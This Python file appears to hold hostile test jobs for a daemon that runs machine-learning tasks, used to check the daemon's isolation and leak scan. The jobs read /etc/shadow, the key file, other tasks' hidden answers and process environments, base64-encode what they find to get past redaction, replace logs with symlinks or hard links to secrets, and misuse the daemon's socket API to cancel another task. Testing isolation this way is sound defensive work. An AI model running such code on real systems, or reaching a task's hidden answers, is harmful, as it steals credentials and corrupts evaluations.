"""Attacks that reach past the job's workspace: for the key file, the hidden answers (its
own and the victim's), the daemon's state and database, and its API. What one reads it
prints raw and in base64 (`show`), which the daemon's redaction of known secrets cannot
recognise, so the run's leak scan finds it in the output."""

from __future__ import annotations

from tools.hostile.attacks.attack import Attack

_SHOW = '''
import base64, os, sys

def show(name, what, data):
    if isinstance(data, str):
        data = data.encode(errors="replace")
    data = data[:600]
    print(f"HOSTILE {name}: {what}: {data!r} b64={base64.b64encode(data).decode()}", flush=True)
'''

LOGS_TO_SECRETS = Attack("logs-to-secrets", "stdout.log, stderr.log, memory.md and "
                         "metrics.json replaced by links (symbolic, and hard where it can) to "
                         "the key file and to the victim's hidden answers, then fail", '''
import os
answers = os.path.join(T["victim_task_dir"], "prepared", "private", "test.csv")
plan = {"stdout.log": T["key_file"], "stderr.log": answers, "memory.md": T["key_file"],
        "metrics.json": answers}
for name, target in plan.items():
    try:
        os.remove(name)
    except OSError:
        pass
    try:
        os.link(target, name)
        how = "hard link"
    except OSError:
        os.symlink(target, name)
        how = "symlink"
    print(f"HOSTILE logs-to-secrets: {name} is a {how} to {target}")
raise SystemExit(3)
''')

READ_SECRETS = Attack("read-secrets", "read the hidden answers (through input/.., the task "
                      "folders' absolute paths, /proc/*/root), /etc/shadow, the key file, the "
                      "daemon's state dir and database, and the environment of every process of "
                      "the daemon's", _SHOW + '''
own, victim = T["own_task_dir"], T["victim_task_dir"]
answers = [os.path.join(own, "prepared", "private", "test.csv"),
           os.path.join(victim, "prepared", "private", "test.csv")]
paths = ["input/../private/test.csv", "input/../../prepared/private/test.csv", *answers,
         "/etc/shadow", T["key_file"], T["database"], T["database"] + "-wal"]
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            ours = b"mlmaster" in handle.read()
    except OSError:
        continue
    paths += [f"/proc/{pid}/root{path}" for path in (T["key_file"], *answers)]
    if ours:
        paths.append(f"/proc/{pid}/environ")
got, refused = [], []
for path in paths:
    try:
        with open(path, "rb") as handle:
            got.append((path, handle.read(4096)))
    except OSError as exc:
        refused.append(f"{path} ({exc.strerror})")
for folder in (T["state_dir"], os.path.dirname(T["key_file"]),
               os.path.join(own, "prepared"), os.path.join(victim, "prepared")):
    try:
        got.append((f"listing of {folder}", " ".join(sorted(os.listdir(folder)))))
    except OSError as exc:
        refused.append(f"listing of {folder} ({exc.strerror})")
print(f"HOSTILE read-secrets: refused: {len(refused)}: {'; '.join(refused)[:1500]}")
# The best finds last, so that the output's tail holds them.
best = (T["key_file"], *answers)
shown = set()
for what, data in sorted(got, key=lambda item: item[0].endswith(best)):
    if data not in shown:
        shown.add(data)
        show("read-secrets", what, data)
raise SystemExit(4)
''')

API = Attack("api", "use the daemon's API through its socket: list the tasks, cancel the "
             "victim, submit a task of its own", '''
import json, socket
calls = [("GET", "/v1/tasks", None),
         ("POST", f"/v1/tasks/{T['victim_id']}/cancel", None),
         ("POST", "/v1/tasks", {"task_dir": T["own_task_dir"], "steps": 1, "name": "by-a-job"})]
for method, path, body in calls:
    data = b"" if body is None else json.dumps(body).encode()
    request = (f"{method} {path} HTTP/1.1\\r\\nHost: localhost\\r\\nConnection: close\\r\\n"
               f"Content-Type: application/json\\r\\nContent-Length: {len(data)}\\r\\n\\r\\n"
               ).encode() + data
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
            conn.settimeout(10)
            conn.connect(T["socket"])
            conn.sendall(request)
            answer = b""
            while chunk := conn.recv(65536):
                answer += chunk
        status = answer.split(b"\\r\\n", 1)[0].decode(errors="replace")
        body_text = answer.partition(b"\\r\\n\\r\\n")[2][:300].decode(errors="replace")
        print(f"HOSTILE api: {method} {path}: {status} {body_text}")
    except OSError as exc:
        print(f"HOSTILE api: {method} {path}: unreachable: {exc.strerror or exc}")
raise SystemExit(5)
''')

TRAP = Attack("trap", "plant links to the key file, the victim's hidden answers and its best "
              "submission wherever the daemon writes when it lays the workspace out again "
              "(solution.py and its .tmp, the logs, metrics.json, memory.md, submission/, "
              "working/), then wait for a daemon restart to run it again", '''
import os, shutil, time
victim = os.path.join(T["victim_task_dir"], "prepared", "private")
best = os.path.join(T["state_dir"], "tasks", T["victim_id"], "best")
plan = {"solution.py": T["key_file"], "solution.py.tmp": T["key_file"],
        "stdout.log": os.path.join(victim, "test.csv"), "stderr.log": T["key_file"],
        "metrics.json": os.path.join(victim, "test.csv"), "memory.md": T["key_file"],
        "submission": best, "working": victim}
for name, target in plan.items():
    if os.path.isdir(name) and not os.path.islink(name):
        shutil.rmtree(name)
    elif os.path.lexists(name):
        os.remove(name)
    os.symlink(target, name)
print(f"HOSTILE trap: {len(plan)} links planted; waiting to be run again", flush=True)
time.sleep(12)
raise SystemExit(13)
''')
